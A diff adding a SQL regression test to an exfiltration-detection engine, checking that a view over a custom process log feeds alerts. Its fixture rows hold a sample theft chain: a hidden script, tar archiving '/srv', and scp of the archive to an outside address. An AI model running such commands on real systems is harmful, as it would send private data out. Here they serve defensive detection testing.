@@ -63,3 +63,22 @@ SELECT pg_temp.plan($$SELECT * FROM events AS e WHERE hashtextextended(e.process
 -- host_processes() and the others ask just so
 SELECT p.proname FROM pg_proc AS p WHERE p.pronamespace = 'transfer_detect_internal'::regnamespace AND p.prosrc ~ 'hashtextextended\(e\.(host_name|process_name), 0\) = hashtextextended' ORDER BY 1;
 ROLLBACK;
+
+-- a view with some of the columns, of other types, tells what it can; a relation that is gone says so
+BEGIN;
+SET LOCAL search_path = transfer_detect, transfer_detect_internal, public;
+SET LOCAL timezone = 'UTC';
+SET LOCAL datestyle = 'ISO';
+CREATE TABLE own_log (ts timestamptz, hostname text, exe text, pid text, ppid text, cmd text, who text);
+INSERT INTO own_log VALUES ('2026-11-20 09:09:58Z', 'h1', '/usr/bin/bash', '10', '1', '/bin/bash /tmp/.x.sh', 'eve'),
+	('2026-11-20 09:09:59Z', 'h1', '/usr/bin/tar', '11', '10', 'tar czf /tmp/.a.tgz /srv', 'eve'), ('2026-11-20 09:10Z', 'h1', '/usr/bin/scp', '12', '10', 'scp /tmp/.a.tgz 203.0.113.9:', 'eve');
+CREATE VIEW own_view AS SELECT ts AS "@timestamp", hostname AS "host.name", exe AS "process.executable", regexp_replace(exe, '.*/', '') AS "process.name", pid AS "process.pid",
+	ppid AS process_parent_pid, cmd AS process_command_line, who AS user_name, 'start'::text AS event_type FROM own_log;
+SELECT event_source('own_view');
+UPDATE rules SET enabled = false;
+INSERT INTO rules (rule_id, name, query, events, enabled) VALUES ('view', 'Own view', 'FROM own_view | WHERE process.name == "scp" | STATS n = COUNT() BY process.command_line', 'own_view', true);
+SELECT alerts_created FROM run(as_of => '2026-11-20 10:00Z');
+SELECT c.section, c.at, c.what FROM alerts AS a, alert_context(a.id) AS c WHERE c.section IN ('alert', 'missing', 'reasons', 'process');
+DROP VIEW own_view;
+SELECT c.section, c.what FROM alerts AS a, alert_context(a.id) AS c WHERE c.section IN ('alert', 'missing', 'reasons', 'process');
+ROLLBACK;
